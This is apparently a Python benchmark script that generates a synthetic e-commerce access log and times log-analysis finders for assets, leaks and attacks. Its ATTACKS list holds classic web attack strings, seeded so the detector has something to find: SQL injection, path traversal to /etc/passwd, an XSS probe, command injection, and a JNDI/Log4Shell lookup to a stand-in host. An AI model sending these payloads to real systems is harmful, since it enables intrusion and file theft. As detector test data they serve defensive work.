"""Access-log lines a second on one core: reading, assets, leaks and attacks each, and all of them over one reading.

    python -m benchmarks.traffic.lines [--quick] [--json] [--log FILE]

Without `--log` a shop's log is made: products, searches, orders, static files, crawlers, and one attack in two hundred lines. CPU
seconds, the median of the rounds; the peer is each finder run alone over the file, one after the other, as separate tools would.
"""

from __future__ import annotations

import argparse
import gc
import random
import tempfile
import time
from collections.abc import Callable
from pathlib import Path
from statistics import median

from benchmarks.report import finish
from shopward.traffic import read_requests
from shopward.traffic.assets.inventory import Inventory
from shopward.traffic.attacks import Scanner
from shopward.traffic.leaks.exposure import Exposure
from shopward.traffic.scan import Looks

AGENTS = [
    f"Mozilla/5.0 ({system}) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/{version}.0.0.0 {kind}Safari/537.36"
    for system in ("Windows NT 10.0; Win64; x64", "Macintosh; Intel Mac OS X 10_15_7", "Linux; Android 14; K", "X11; Linux x86_64")
    for version in range(120, 140)
    for kind in ("", "Mobile ")
]  # fmt: skip
ATTACKS = (
    "/search?q=%27%20or%201%3D1--", "/d?f=../../../../etc/passwd", "/search?q=%3Cscript%3Ealert(1)%3C/script%3E", "/wp-login.php",
    "/ping?host=127.0.0.1%3Bcat%20/etc/passwd", "/a?x=%24%7Bjndi:ldap://x.example/a%7D",
)  # fmt: skip
WORDS = (
    "shoes boots red blue men women running summer kids lamp kettle desk mug tent phone case cover glass light".split()
)


def line(i: int, rng: random.Random) -> str:
    """One line of a shop's log in the combined format."""
    kind = rng.random()
    product = int(rng.paretovariate(0.7)) % 200_000
    if kind < 0.005:
        url = rng.choice(ATTACKS)
    elif kind < 0.35:
        url = f"/products/{product}"
    elif kind < 0.5:
        url = f"/search?q={rng.choice(WORDS)}+{rng.choice(WORDS)}&page={rng.randint(1, 9)}"
    elif kind < 0.62:
        url = f"/api/v1/users/{rng.randint(1, 30_000)}/orders/{rng.randint(10**6, 10**7)}"
    elif kind < 0.7:
        url = f"/api/v1/cart?session={rng.getrandbits(64):016x}&sku=SKU-{product}"
    elif kind < 0.9:
        url = f"/static/img/{product % 5000}.jpg"
    else:
        url = rng.choice(("/", "/cart", "/login", "/api/v1/prices", "/robots.txt", "/help/returns"))
    caller = rng.randint(0, 20_000)
    moment = time.strftime("%d/%b/%Y:%H:%M:%S +0000", time.gmtime(1_790_000_000 + i // 40))
    referer = "-" if kind > 0.6 else f"https://shop.example/c/{rng.choice(WORDS)}"
    return (
        f'10.{caller >> 8}.{caller & 255}.9 - - [{moment}] "{"POST" if kind > 0.97 else "GET"} {url} HTTP/1.1" '
        f'{rng.choice((200, 200, 200, 200, 304, 404))} {rng.randint(200, 90_000)} "{referer}" "{AGENTS[caller % len(AGENTS)]}"'
    )


def made(folder: Path, lines: int, seed: int = 11) -> Path:
    rng = random.Random(seed)
    path = folder / "access.log"
    path.write_text("\n".join(line(i, rng) for i in range(lines)) + "\n")
    return path


def seconds(path: Path, look: Callable[[], Callable]) -> float:
    """CPU seconds of one finder over one reading."""
    take = look()
    gc.collect()  # what earlier rounds left is not this one's work
    started = time.process_time()
    for request in read_requests(path, format="combined"):
        take(request)
    return time.process_time() - started


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("--quick", action="store_true", help="under 55 s; fewer lines and rounds")
    parser.add_argument("--json", action="store_true", help="print one JSON object as the last line")
    parser.add_argument("--log", type=Path, help="a combined access log instead of the made one")
    args = parser.parse_args()
    engine = Scanner()  # compiled patterns are kept on disk from here on
    looks: dict[str, Callable[[], Callable]] = {
        "reading": lambda: lambda request: None,
        "assets": lambda: Inventory().add,
        "leaks": lambda: Exposure().add,
        "attacks": lambda: Scanner().scan,
        "all": lambda: Looks().take,
    }
    with tempfile.TemporaryDirectory() as folder:
        path = args.log or made(Path(folder), 20_000 if args.quick else 200_000)
        with path.open("rb") as file:
            lines = sum(1 for _ in file)
        times: dict[str, list[float]] = {name: [] for name in looks}
        for _ in range(3 if args.quick else 5):
            for name, look in looks.items():
                times[name].append(seconds(path, look))
    middle = {name: median(found) for name, found in times.items()}
    result = {f"{name}_lines_a_second": lines / taken for name, taken in middle.items()}
    result |= {"lines": lines, "engine": engine.engine.name}
    result["ratio_apart"] = (middle["assets"] + middle["leaks"] + middle["attacks"]) / middle["all"]
    finish("traffic.lines", result, args.json)


if __name__ == "__main__":
    main()
